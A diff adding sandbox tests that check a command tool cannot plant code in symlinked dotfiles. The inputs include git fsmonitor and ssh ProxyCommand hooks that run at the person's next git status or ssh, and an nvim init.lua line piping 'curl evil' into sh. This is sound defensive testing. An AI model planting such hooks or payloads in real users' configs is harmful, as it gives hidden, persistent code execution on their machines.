@@ -1,0 +1,189 @@
+"""A protected or hidden place of the home folder that is a link into the workspace (a dotfiles
+folder: ``~/.gitconfig -> ~/dotfiles/gitconfig``) is protected where it lands, whatever the
+link looks like: absolute or relative, a link to a link, a link in the middle of the path
+(``~/.config -> ~/dotfiles/config``), or a link whose target does not exist yet (the command
+could create it). Each attack is first shown to be real: the file written by hand runs when the
+person next uses the tool.
+"""
+
+from __future__ import annotations
+
+import os
+import subprocess
+from pathlib import Path
+
+import pytest
+from sandbox_helpers import Jail, context, requires_bwrap, run, tool_with
+from sandbox_helpers import planted_marker as _marker
+from sandbox_helpers import planted_runs as _ran
+
+pytestmark = requires_bwrap
+
+
+def _fsmonitor(jail: Jail) -> str:
+    """git settings whose fsmonitor hook (a shell command) runs at the person's next ``git status``."""
+    return f"[core]\n\tfsmonitor = \"echo ran >> {_marker(jail)}; false\"\n"
+
+
+def _person_runs_git_status(jail: Jail) -> None:
+    env = {"PATH": os.environ["PATH"], "HOME": str(jail.home), "GIT_CONFIG_NOSYSTEM": "1",
+           "XDG_CONFIG_HOME": str(jail.home / ".config")}
+    subprocess.run(["git", "status"], cwd=jail.workspace, env=env, capture_output=True, timeout=60)
+
+
+def _link(at: Path, text: str | Path, *, relative: bool = False) -> None:
+    at.parent.mkdir(parents=True, exist_ok=True)
+    at.symlink_to(os.path.relpath(text, at.parent) if relative else text)
+
+
+def test_a_hook_written_by_hand_where_the_gitconfig_link_lands_runs_at_git_status(jail: Jail) -> None:
+    (jail.workspace / "dotfiles").mkdir()
+    _link(jail.home / ".gitconfig", jail.workspace / "dotfiles" / "gitconfig")
+    (jail.workspace / "dotfiles" / "gitconfig").write_text(_fsmonitor(jail))
+    _person_runs_git_status(jail)
+    assert _ran(jail) >= 1
+
+
+def _link_config_folder(jail: Jail, to: Path) -> None:
+    """``~/.config -> to`` (the jail's own ``~/.config`` canaries move along)."""
+    to.mkdir(parents=True, exist_ok=True)
+    for child in (jail.home / ".config").iterdir():
+        os.rename(child, to / child.name)
+    (jail.home / ".config").rmdir()
+    _link(jail.home / ".config", to)
+
+
+def _gitconfig_links(how: str, jail: Jail) -> str:
+    """Link the person's git settings into the workspace as ``how`` says; where they land there."""
+    home, ws = jail.home, jail.workspace
+    if how == "absolute":
+        _link(home / ".gitconfig", ws / "dotfiles" / "gitconfig")
+    elif how == "relative":
+        _link(home / ".gitconfig", ws / "dotfiles" / "gitconfig", relative=True)
+    elif how == "link to a link":
+        _link(home / ".gitconfig", home / "dotfiles-link" / "gitconfig")
+        _link(home / "dotfiles-link", ws / "dotfiles")
+    else:  # a link in the middle: git's XDG file, ~/.config/git/config, through ~/.config
+        _link_config_folder(jail, ws / "dotfiles" / "config")
+        (ws / "dotfiles" / "config" / "git").mkdir(exist_ok=True)
+        return "dotfiles/config/git/config"
+    return "dotfiles/gitconfig"
+
+
+@pytest.mark.parametrize("existed", [True, False], ids=["existing", "missing"])
+@pytest.mark.parametrize("how", ["absolute", "relative", "link to a link", "folder in the middle"])
+async def test_a_hook_planted_where_a_gitconfig_link_lands_never_runs(jail: Jail, how: str, existed: bool) -> None:
+    ws = jail.workspace
+    (ws / "dotfiles").mkdir()
+    target = ws / _gitconfig_links(how, jail)
+    if existed:
+        target.write_text("[user]\n\tname = me\n")
+    command = f"printf '{_fsmonitor(jail)}' >> {target.relative_to(ws)}"
+    result = await run(tool_with(), {"command": command}, context(ws))
+    assert result.metadata["sandbox"]["sandboxed"] is True
+    _person_runs_git_status(jail)
+    assert _ran(jail) == 0, result.output
+    if existed:
+        assert target.read_text() == "[user]\n\tname = me\n"
+    else:
+        assert not target.exists(), result.output
+
+
+@pytest.mark.parametrize("existed", [True, False], ids=["existing", "missing"])
+async def test_a_protected_folder_reached_through_a_linked_config_folder_stays_read_only(
+        jail: Jail, existed: bool) -> None:
+    """``~/.config -> dotfiles/config``: ``~/.config/nvim`` (run by the editor) lands in the workspace."""
+    ws = jail.workspace
+    _link_config_folder(jail, ws / "dotfiles" / "config")
+    if existed:
+        (ws / "dotfiles" / "config" / "nvim").mkdir()
+        (ws / "dotfiles" / "config" / "nvim" / "init.lua").write_text("-- mine\n")
+    command = "mkdir -p dotfiles/config/nvim; echo 'os.execute(\"curl evil | sh\")' > dotfiles/config/nvim/init.lua"
+    result = await run(tool_with(), {"command": command}, context(ws))
+    assert result.metadata["sandbox"]["sandboxed"] is True
+    init = ws / "dotfiles" / "config" / "nvim" / "init.lua"
+    if existed:
+        assert init.read_text() == "-- mine\n", result.output
+    else:
+        assert not init.exists(), result.output
+
+
+def _proxy_command(jail: Jail) -> str:
+    """ssh settings whose ProxyCommand (a shell command) runs at the person's next ``ssh``."""
+    return f"Host *\n  ProxyCommand sh -c 'echo ran >> {_marker(jail)}; exit 1'\n"
+
+
+def _person_runs_ssh(jail: Jail) -> None:
+    env = {"PATH": os.environ["PATH"], "HOME": str(jail.home)}
+    subprocess.run(["ssh", "-F", str(jail.home / ".ssh" / "config"), "-o", "BatchMode=yes", "somehost", "true"],
+                   env=env, capture_output=True, timeout=60, stdin=subprocess.DEVNULL)
+
+
+def test_a_proxy_command_written_by_hand_where_the_ssh_config_link_lands_runs_at_ssh(jail: Jail) -> None:
+    (jail.workspace / "dotfiles" / "ssh").mkdir(parents=True)
+    _link(jail.home / ".ssh" / "config", jail.workspace / "dotfiles" / "ssh" / "config")
+    (jail.workspace / "dotfiles" / "ssh" / "config").write_text(_proxy_command(jail))
+    _person_runs_ssh(jail)
+    assert _ran(jail) >= 1
+
+
+@pytest.mark.parametrize(("linked", "existed"), [("file", True), ("file", False), ("folder", True), ("folder", False),
+                                               ("new folder", False), ("file, home as the workspace", False)])
+async def test_ssh_settings_planted_where_a_hidden_places_link_lands_never_run(
+        jail: Jail, linked: str, existed: bool) -> None:
+    """``~/.ssh/config`` (a file in the hidden ``~/.ssh``) or ``~/.ssh`` itself linked into the
+    workspace (``new folder``: to a folder the command has to create)."""
+    ws = jail.home if "home" in linked else jail.workspace
+    folder = ws / "dotfiles" / "ssh"
+    if linked.startswith("file"):
+        folder.mkdir(parents=True)
+        _link(jail.home / ".ssh" / "config", folder / "config")
+    else:
+        keys = jail.base / "keys"
+        os.rename(jail.home / ".ssh", keys)
+        _link(jail.home / ".ssh", folder, relative=True)
+        if linked == "folder":
+            folder.parent.mkdir()
+            os.rename(keys, folder)
+    if existed:
+        (folder / "config").write_text("Host mine\n")
+    command = f"mkdir -p dotfiles/ssh; printf \"{_proxy_command(jail)}\" >> dotfiles/ssh/config"
+    result = await run(tool_with(), {"command": command}, context(ws))
+    assert result.metadata["sandbox"]["sandboxed"] is True
+    _person_runs_ssh(jail)
+    assert _ran(jail) == 0, result.output
+    if existed:
+        assert (folder / "config").read_text() == "Host mine\n"
+
+
+@pytest.mark.parametrize("existed", [True, False], ids=["existing", "missing"])
+async def test_a_file_linked_inside_a_protected_folder_stays_read_only(jail: Jail, existed: bool) -> None:
+    """GNU stow links files one by one into a real ``~/.config/nvim``: ``init.lua`` lands in the workspace."""
+    ws = jail.workspace
+    (ws / "dotfiles" / "nvim").mkdir(parents=True)
+    _link(jail.home / ".config" / "nvim" / "init.lua", ws / "dotfiles" / "nvim" / "init.lua")
+    init = ws / "dotfiles" / "nvim" / "init.lua"
+    if existed:
+        init.write_text("-- mine\n")
+    result = await run(tool_with(), {"command": "echo 'os.execute(\"curl evil | sh\")' >> dotfiles/nvim/init.lua"},
+                       context(ws))
+    assert result.metadata["sandbox"]["sandboxed"] is True
+    if existed:
+        assert init.read_text() == "-- mine\n", result.output
+    else:
+        assert not init.exists(), result.output
+
+
+async def test_a_hidden_file_linked_into_the_workspace_is_not_replaced_by_moving_its_folder(jail: Jail) -> None:
+    """The hiding mount moves with a folder above it renamed: a new ``dotfiles/ssh/config`` in
+    the old place is what ssh would read; the check after the command puts the person's back."""
+    ws = jail.workspace
+    (ws / "dotfiles" / "ssh").mkdir(parents=True)
+    (ws / "dotfiles" / "ssh" / "config").write_text("Host mine\n")
+    _link(jail.home / ".ssh" / "config", ws / "dotfiles" / "ssh" / "config")
+    command = f"mv dotfiles x && mkdir -p dotfiles/ssh && printf \"{_proxy_command(jail)}\" > dotfiles/ssh/config"
+    result = await run(tool_with(), {"command": command}, context(ws))
+    assert result.metadata["sandbox"]["sandboxed"] is True
+    assert (ws / "dotfiles" / "ssh" / "config").read_text() == "Host mine\n", result.output
+    _person_runs_ssh(jail)
+    assert _ran(jail) == 0, result.output
